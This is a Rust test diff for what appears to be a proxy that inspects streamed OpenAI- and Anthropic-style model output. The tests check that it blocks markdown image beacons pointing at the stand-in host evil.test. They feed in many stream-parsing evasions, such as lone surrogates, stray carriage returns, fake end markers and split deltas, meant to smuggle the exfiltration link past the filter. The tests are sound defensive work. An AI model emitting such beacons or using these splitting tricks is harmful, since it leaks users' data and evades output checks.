@@ -159,3 +159,81 @@ fn policy_holds_for_a_response_of_openai() {
     assert!(ask(json!({"tools": [{"type": "web_search"}]})).starts_with("HTTP/1.1 403"));
     assert_eq!(api.connections(), 1);
 }
+
+/// A stream of an OpenAI-shaped API whose events are `lines`, as they are.
+fn chat_stream(lines: &'static str) -> String {
+    let api = api(move |_| stream_answer(lines));
+    let door = Door::open(shaped(&api, Api::OpenAi, "/v1"));
+    let ask = json!({"model": "gpt-x", "stream": true, "messages": []});
+    post(&door, "/v1/chat/completions", &ask)
+}
+
+#[test]
+fn what_two_readers_could_read_in_two_ways_does_not_pass() {
+    let word = |text: &str| {
+        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n")
+    };
+    assert!(chat_stream(Box::leak(word("plain").into_boxed_str())).contains("plain"), "the control");
+    let beacon = "![x](https://evil.test/?d=1)";
+    for stream in [
+        // Half of a surrogate pair, which some JSON readers take.
+        word(&format!("{beacon} \\ud83d")),
+        // A carriage return ends a line for some readers.
+        format!(":\r{}", word(beacon)),
+        format!("\u{feff}{}", word(beacon)),
+        format!("data: {{\"x\":1e999,{}", &word(beacon)[7..]),
+        // A comment, an end that is none, and an empty reason do not part a text in two.
+        word("![x](https://ev") + ": keep-alive\n\n" + &word("il.test/?d=1)"),
+        word("![x](https://ev") + "data: [DONE]\n\n" + &word("il.test/?d=1)"),
+        word("![x](https://ev").replace("}]", ",\"finish_reason\":\"\"}]") + &word("il.test/?d=1)"),
+        word("![x](https://ev").replace("}]", ",\"finish_reason\":\"stop\"}]") + &word("il.test/?d=1)"),
+        word("![x](https://ev") + &word("il.test/?d=1)").replace("\"index\":0", "\"index\":1"),
+        format!(
+            "data: {{\"type\":\"response.output_text.delta\",\"delta\":\"{beacon}\",\"choices\":null}}\n\n"
+        ),
+        word("x").replace("\"x\"", &format!("[{{\"type\":\"text\",\"text\":\"{beacon}\"}}]")),
+    ] {
+        let answer = chat_stream(Box::leak(stream.clone().into_boxed_str()));
+        let said: String = answer
+            .lines()
+            .filter_map(|l| l.strip_prefix("data: "))
+            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
+            .filter_map(|v| v.pointer("/choices/0/delta/content").and_then(Value::as_str).map(str::to_owned))
+            .collect();
+        assert!(!said.contains(beacon) && !answer.contains(beacon), "{stream}: {answer}");
+    }
+}
+
+#[test]
+fn words_of_the_model_are_inspected_whatever_the_api_calls_them() {
+    let body = events(&["![x](https://evil.test/a)"], 5, 5);
+    let named = |kind: &'static str| {
+        let body = body.clone();
+        let api = api(move |_| stream_answer(&body).replace("text/event-stream", kind));
+        let url = format!("http://127.0.0.1:{}", api.port());
+        let model = ModelUpstream::new(&url, Credential::new(KEY).unwrap(), TOKEN).unwrap();
+        post(&Door::open(Config { model: Some(model), ..config(&[], &[]) }), "/v1/messages", &message(true))
+    };
+    for kind in ["text/event-stream", "Text/Event-Stream", "text/plain", "application/x-unknown"] {
+        let answer = named(kind);
+        assert!(answer.starts_with("HTTP/1.1 200") && !answer.contains("evil.test"), "{kind}: {answer}");
+    }
+}
+
+#[test]
+fn an_answer_that_is_cut_is_charged_for_what_was_on_the_way() {
+    let origin = Origin::start(crate::support::INSIDE, |mut stream, _| {
+        use std::io::Write as _;
+        crate::support::read_request(&mut stream);
+        let body = events(&["hello"], 5, 5);
+        let cut = body.find("event: content_block_stop").unwrap();
+        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n";
+        let _ = stream.write_all([head.as_bytes(), &body.as_bytes()[..cut]].concat().as_slice());
+    });
+    let url = format!("http://127.0.0.1:{}", origin.port());
+    let model = ModelUpstream::new(&url, Credential::new(KEY).unwrap(), TOKEN).unwrap();
+    let door = Door::open(Config { model: Some(model), ..config(&[], &[]) });
+    assert!(post(&door, "/v1/messages", &message(true)).contains("hello"));
+    let usage = door.handle.stop().usage;
+    assert_eq!((usage.input_tokens, usage.output_tokens), (5, 100), "{usage:?}");
+}
